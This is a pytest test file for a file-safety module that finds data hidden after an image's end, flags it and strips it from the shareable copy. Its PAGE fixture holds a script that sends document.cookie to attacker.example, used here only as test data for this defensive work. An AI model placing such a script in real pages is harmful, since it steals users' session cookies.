"""Bytes after a photo's end (a web page behind a PNG, a program behind a JPEG) are found,
flagged, and left out of the copy to share; the pixels stay the same."""

import io

import pytest
from PIL import Image

from salvaguarda.incidents.files import hidden, pdfs, sniff
from salvaguarda.incidents.files.images import trailing_data, without_metadata
from salvaguarda.incidents.files.sniff import JPEG, PNG, WEBP, FileKind

PAGE = b"<html><body><script>fetch('https://attacker.example/'+document.cookie)</script></html>"


def photo(fmt: str) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((64, 48), 60).convert("RGB").save(buffer, fmt)
    return buffer.getvalue()


def pixels(data: bytes) -> bytes:
    with Image.open(io.BytesIO(data)) as image:
        return image.tobytes()


@pytest.mark.parametrize(("fmt", "kind"), [("PNG", PNG), ("JPEG", JPEG), ("WEBP", WEBP)])
class TestTrailingData:
    def test_a_page_appended_is_found_and_flagged(self, fmt: str, kind: FileKind) -> None:
        data = photo(fmt) + PAGE
        assert sniff.check_upload(io.BytesIO(data), max_bytes=len(data)) == kind  # still opens
        assert trailing_data(io.BytesIO(data), kind) == len(PAGE)
        assert hidden.hidden_content(io.BytesIO(data), kind) == [hidden.IMAGE_TRAILING_DATA]

    def test_the_copy_to_share_drops_it_and_keeps_the_pixels(
        self, fmt: str, kind: FileKind
    ) -> None:
        original = photo(fmt)
        data = original + PAGE
        copy = hidden.shared_copy(io.BytesIO(data), kind)
        assert copy is not None
        assert b"<html" not in copy and b"script" not in copy
        assert pixels(copy) == pixels(original)
        assert trailing_data(io.BytesIO(copy), kind) == 0

    def test_a_plain_photo_is_not_flagged(self, fmt: str, kind: FileKind) -> None:
        assert hidden.hidden_content(io.BytesIO(photo(fmt)), kind) == []

    def test_zero_padding_is_not_flagged(self, fmt: str, kind: FileKind) -> None:
        data = photo(fmt) + b"\x00" * 512
        assert trailing_data(io.BytesIO(data), kind) == 0
        assert hidden.hidden_content(io.BytesIO(data), kind) == []


def test_a_photo_that_cannot_be_walked_is_not_flagged_but_gets_no_copy() -> None:
    cut = photo("JPEG")[:-40]
    assert trailing_data(io.BytesIO(cut), JPEG) == 0
    with pytest.raises(sniff.RefusedFile):
        without_metadata(io.BytesIO(cut), JPEG)


def test_recordings_and_videos_are_shared_as_kept() -> None:
    assert hidden.hidden_content(io.BytesIO(b"ID3" + b"\x00" * 64), sniff.MP3) == []
    assert hidden.shared_copy(io.BytesIO(b"ID3"), sniff.MP3) is None


def test_every_code_is_explained_in_words() -> None:
    for code in (*pdfs.CODES, hidden.IMAGE_TRAILING_DATA):
        assert hidden.explanation(code) != code
